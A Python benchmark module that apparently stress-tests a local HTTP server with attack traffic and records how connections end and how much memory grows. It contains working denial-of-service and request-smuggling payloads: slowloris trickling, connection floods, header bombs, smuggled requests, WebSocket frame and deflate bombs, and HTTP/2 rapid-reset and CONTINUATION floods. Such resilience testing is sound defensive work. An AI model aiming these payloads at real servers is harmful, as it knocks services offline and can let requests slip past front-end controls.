"""Attacks on a server of HTTP: what each of many connections does, again and again, until the time is up."""

from __future__ import annotations

import asyncio
import base64
import collections
import contextlib
import functools
import os
import random
import re
import resource
import ssl
import struct
import time
import zlib
from collections.abc import Callable, Coroutine
from typing import TypeAlias

import msgspec
import psutil
import uvloop

from bench._http_hostile import LARGE, READ, SOCKET

_OPEN_S = 2.0  # in which many connections are opened, one after the other
_TRICKLE_S = 1.0  # from one byte of a slow client to the next
_PIECE = 65_536

Reader: TypeAlias = asyncio.StreamReader
Writer: TypeAlias = asyncio.StreamWriter
# What a connection does. It returns when the server has ended it, or answered.
Act: TypeAlias = Callable[[Reader, Writer], Coroutine[None, None, bytes]]


class Attack(msgspec.Struct, frozen=True):
    """connections: at once. secure: over TLS, HTTP/2."""

    connections: int
    act: Act
    secure: bool = False


class Suffered(msgspec.Struct, frozen=True):
    """attacks: connections that were ended or answered, a second. ends: how. grown: bytes of the shard, at most."""

    attacks: float
    ends: dict[str, int]
    grown: int


def attack(what: Attack, port: int, shard: int, seconds: float) -> Suffered:
    """shard: a process. Raises SystemExit if this process may not open so many connections."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    if limit != resource.RLIM_INFINITY and limit < what.connections + 100:
        raise SystemExit(f"{what.connections:,} connections need ulimit -Hn {what.connections + 100}; it is {limit}")
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    os.nice(19)
    return uvloop.run(_attack(what, port, psutil.Process(shard), seconds))


async def _attack(what: Attack, port: int, shard: psutil.Process, seconds: float) -> Suffered:
    ends: collections.Counter[str] = collections.Counter()
    until = time.monotonic() + seconds
    context = None
    if what.secure:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])

    async def again(number: int) -> None:
        await asyncio.sleep(_OPEN_S * number / what.connections)
        while time.monotonic() < until:
            answer = b""
            with contextlib.suppress(ConnectionError, ssl.SSLError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
                try:
                    answer = await what.act(reader, writer)
                finally:
                    writer.transport.abort()
            ends[_end(answer, what.secure)] += 1

    before = most = shard.memory_info().rss
    tasks = [asyncio.create_task(again(number)) for number in range(what.connections)]
    while (left := until - time.monotonic()) > 0:
        await asyncio.sleep(min(left, 0.1))
        most = max(most, shard.memory_info().rss)
    for task in tasks:
        task.cancel()
    outcomes = await asyncio.gather(*tasks, return_exceptions=True)
    for outcome in outcomes:
        if isinstance(outcome, Exception):
            raise outcome
    return Suffered(ends.total() / seconds, dict(ends), most - before)


def _end(answer: bytes, secure: bool) -> str:
    if secure or not answer:
        return "closed"
    statuses = re.findall(rb"HTTP/1\.1 (\d+)", answer)
    return statuses[-1].decode() if statuses else "other"


def _trickling(begin: bytes, piece: bytes) -> Act:
    async def act(reader: Reader, writer: Writer) -> bytes:
        writer.write(begin)
        answer = asyncio.ensure_future(reader.read())
        try:
            while not answer.done():
                await asyncio.wait([answer], timeout=_TRICKLE_S * random.uniform(0.5, 1.5))
                writer.write(piece)
            return await answer
        finally:
            answer.cancel()

    return act


def _sending(*requests: bytes) -> Act:
    """One of these, and the answer to its end."""

    async def act(reader: Reader, writer: Writer) -> bytes:
        writer.write(random.choice(requests))
        return await reader.read()

    return act


async def _never_reading(reader: Reader, writer: Writer) -> bytes:
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    writer.write(_head("GET", LARGE))
    await asyncio.sleep(3_600)
    return b""


async def _idle(reader: Reader, writer: Writer) -> bytes:
    return await reader.read()


def _head(method: str, path: str, *fields: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: a", *fields]
    return "\r\n".join([*lines, "", ""]).encode("latin-1")


_SMUGGLED = [
    _head("POST", READ, "Content-Length: 4", "Transfer-Encoding: chunked") + b"0\r\n\r\n",
    _head("POST", READ, "Content-Length: 4", "Content-Length: 5") + b"abcde",
    _head("POST", READ, "Transfer-Encoding: chunked") + b"0x5\r\nabcde\r\n0\r\n\r\n",
    _head("POST", READ, "Transfer-Encoding: chunked, identity") + b"0\r\n\r\n",
    _head("POST", READ, "Transfer-Encoding : chunked") + b"0\r\n\r\n",
    _head("GET", READ, "X: a\r\n b"),
    b"GET / HTTP/1.1\nHost: a\n\n",
    _head("GET", "/", "Host: b"),
]

# WebSocket.

_UPGRADE = (
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    f"Sec-WebSocket-Key: {base64.b64encode(bytes(16)).decode()}",
)


def _websocket(extensions: str, frames: Callable[[], bytes], times: int) -> Act:
    """Frames, so many times or until the server ends it."""

    async def act(reader: Reader, writer: Writer) -> bytes:
        fields = [f"Sec-WebSocket-Extensions: {extensions}"] if extensions else []
        writer.write(_head("GET", SOCKET, *_UPGRADE, *fields))
        answer = await reader.readuntil(b"\r\n\r\n")
        ended = asyncio.ensure_future(reader.read())
        try:
            data = frames()
            for _ in range(times):
                writer.write(data)
                await asyncio.wait([ended], timeout=0)
                if ended.done():
                    break
                await writer.drain()
            await ended
            return answer
        finally:
            ended.cancel()

    return act


def _frame(opcode: int, payload: bytes, *, fin: bool = True, compressed: bool = False) -> bytes:
    """Masked by zeros."""
    return struct.pack("!BBQ", opcode | fin << 7 | compressed << 6, 0x80 | 127, len(payload)) + bytes(4) + payload


def _huge_frame() -> bytes:
    return struct.pack("!BBQ", 0x82, 0x80 | 127, 1 << 40) + bytes(4 + _PIECE)


def _fragments() -> bytes:
    return _frame(2, b"a", fin=False) + _frame(0, b"", fin=False) * 10_000


@functools.cache
def _inflating() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(100 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH)
    return _frame(2, data[:-4], compressed=True)


# HTTP/2: `frame(type, flags, stream, payload)`, and a head of indexed fields (RFC 7541, appendix A).

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _CONTINUATION = 0, 1, 3, 4, 9
_END_STREAM, _END_HEADERS = 1, 4
_HEAD = b"\x82\x87\x84\x41\x01a"  # GET, https, /, authority a


def _h2(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def _over_h2(frames: bytes) -> Act:
    async def act(reader: Reader, writer: Writer) -> bytes:
        writer.write(_PREFACE + _h2(_SETTINGS, 0, 0) + frames)
        return await reader.read()

    return act


def _rapid_reset() -> bytes:
    return b"".join(
        _h2(_HEADERS, _END_HEADERS | _END_STREAM, number, _HEAD) + _h2(_RST_STREAM, 0, number, struct.pack("!I", 8))
        for number in range(1, 4_000, 2)
    )


def _continuations() -> bytes:
    return _h2(_HEADERS, _END_STREAM, 1, _HEAD) + _h2(_CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3_000) * 1_000


def attacks() -> dict[str, Attack]:
    """By name. `idle` has 10,000 connections, header lines have 64 KiB, heads a thousand fields."""
    many = _head("GET", "/light", *(f"X-{number}: a" for number in range(1_000)))
    return {
        "slow-heads": Attack(1_000, _trickling(b"GET /light HTTP/1.1\r\nHost: a\r\nX: ", b"a")),
        "slow-bodies": Attack(1_000, _trickling(_head("POST", READ, "Content-Length: 1000"), b"a")),
        "idle": Attack(10_000, _idle),
        "never-reading": Attack(100, _never_reading),
        "long-header-lines": Attack(16, _sending(_head("GET", "/light", f"X: {'a' * _PIECE}"))),
        "many-headers": Attack(16, _sending(many)),
        "smuggling": Attack(16, _sending(*_SMUGGLED)),
        "websocket-frames": Attack(16, _websocket("", _huge_frame, 1_000)),
        "websocket-fragments": Attack(16, _websocket("", _fragments, 100)),
        "websocket-bombs": Attack(16, _websocket("permessage-deflate", _inflating, 1)),
        "rapid-reset": Attack(16, _over_h2(_rapid_reset()), secure=True),
        "continuations": Attack(16, _over_h2(_continuations()), secure=True),
    }
